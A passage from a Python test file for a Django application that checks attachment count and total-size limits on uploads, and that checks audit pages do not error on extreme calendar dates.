    response = as_applicant.post(url, {"file": SimpleUploadedFile("p3.pdf", PDF)}, format="multipart")
    bad(response, "file")
    assert "2" in response.json()["file"][0]
    assert Attachment.objects.filter(application_id=pk).count() == 2
    # By size: 1 MB in all, and the two small files already hold some of it.
    call.max_attachments = 10
    call.save()
    big = SimpleUploadedFile("big.pdf", PDF + b"0" * (1024 * 1024))
    response = as_applicant.post(url, {"file": big}, format="multipart")
    bad(response, "file")
    assert "1 MB" in response.json()["file"][0]
    assert Attachment.objects.filter(application_id=pk).count() == 2


def test_audit_dates_at_the_ends_of_the_calendar_are_ignored_not_a_500(client, staff):
    """0001-01-01 and 9999-12-31 overflowed once moved to UTC (found by the sweep of every route)."""
    client.force_login(staff)
    for url in ("/audit/", "/audit.xlsx"):
        response = client.get(f"{url}?since=0001-01-01&until=9999-12-31")
        assert response.status_code == 200, url
